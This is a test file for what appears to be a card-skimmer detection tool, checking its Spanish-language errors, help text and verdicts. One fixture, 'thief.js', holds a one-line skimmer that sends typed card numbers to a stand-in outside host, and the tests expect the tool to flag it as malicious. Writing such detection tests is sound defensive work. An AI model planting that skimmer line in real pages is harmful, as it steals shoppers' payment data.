import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { runHere as run } from './helpers.ts'

const folder = mkdtempSync(join(tmpdir(), 'tillwatch-spanish-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))
const put = (name: string, text: string) => {
  writeFileSync(join(folder, name), text)
  return join(folder, name)
}
const spanish = (...args: string[]) => run([...args, '--language', 'es'])

const calm = put('calm.js', 'export const total = (items) => items.length\n')
const thief = put(
  'thief.js',
  `document.querySelector('[name=cardnumber]').addEventListener('input', (e) => navigator.sendBeacon('https://collect.stranger-shop.example/', e.target.value))\n`,
)

describe('with --language es', () => {
  it.each([
    [['scan'], 'Indique la página que quiere analizar'],
    [['scan', 'ftp://a.example'], 'Las URL «ftp:» no se pueden analizar'],
    [['scan', 'shop.example', '--allow-private', '10.0.0.0/8'], 'una URL o un rango de direcciones no es un servidor. Use SERVIDOR'],
    [['scan', 'shop.example', '--json', join(folder, 'none', 'x')], 'no existe'],
    [['ci', 'shop.example', '--lock', join(folder, 'none.json')], 'no existe. Créelo con --update'],
    [['capture', 'shop.example'], 'Indique el servidor con --upload'],
    [['compare', calm], 'Indique qué quiere comparar'],
    [['compare', calm, join(folder, 'none.js')], 'no se puede leer: no existe el archivo o la carpeta'],
    [['inspect', calm, '--host', 'co.uk'], 'es un sufijo bajo el que cualquiera puede registrar un nombre'],
    [['verify', calm], 'no es un archivo ZIP válido'],
    [['doctor', 'now'], 'solo admite --json'],
    [['watch'], 'no tiene el comando «watch»'],
    [['scan', '--bogus'], 'Opción desconocida: --bogus.'],
  ])('%j is refused in Spanish', async (args, sentence) => {
    const { code, err } = await spanish(...args)
    expect([code, err.split('\n')[0]]).toEqual([2, expect.stringContaining(sentence)])
  })

  it.each(['', 'scan', 'compare', 'ci', 'capture', 'inspect', 'verify', 'doctor'])(
    'the help of %j is Spanish, and fits a terminal',
    async (topic) => {
      const { code, out } = await spanish('help', ...(topic === '' ? [] : [topic]))
      expect([code, out]).toEqual([0, expect.stringMatching(/español|Códigos de salida/)])
      for (const line of out.split('\n')) expect(line.length).toBeLessThanOrEqual(140)
    },
  )

  it('compare names the change, its verdict, and its reasons in Spanish', async () => {
    const { code, out } = await spanish('compare', calm, thief)
    expect([code, out]).toEqual([1, expect.stringContaining('MALICIOSO')])
    expect(out).toContain('1 cambio con nivel de alerta, 0 más.')
    expect(out).toMatch(/Líneas\n {2}\d+ añadidas?, \d+ eliminadas?/)
    expect(out).not.toMatch(/\b(?:change|script changed|added|sends)\b/)
  })

  it('inspect gives reasons and capabilities in Spanish; the JSON stays in English', async () => {
    const { out } = await spanish('inspect', calm, thief)
    expect(out).toContain('2 archivos: 1 malicioso, 1 sin indicios de skimmer.')
    expect(out).toContain('Requieren atención (1)')
    expect(out).toMatch(/El script (?:\S+ )+/)
    expect(out).not.toMatch(/\b(?:Reads|sends|file)\b/)
    const json = await spanish('inspect', thief, '--json', '-')
    expect(JSON.parse(json.out).files[0].reasons[0].sentence).toMatch(/^[A-Z][\w ]+ .*\.$/)
    expect(json.out).not.toContain('El script')
  })
})
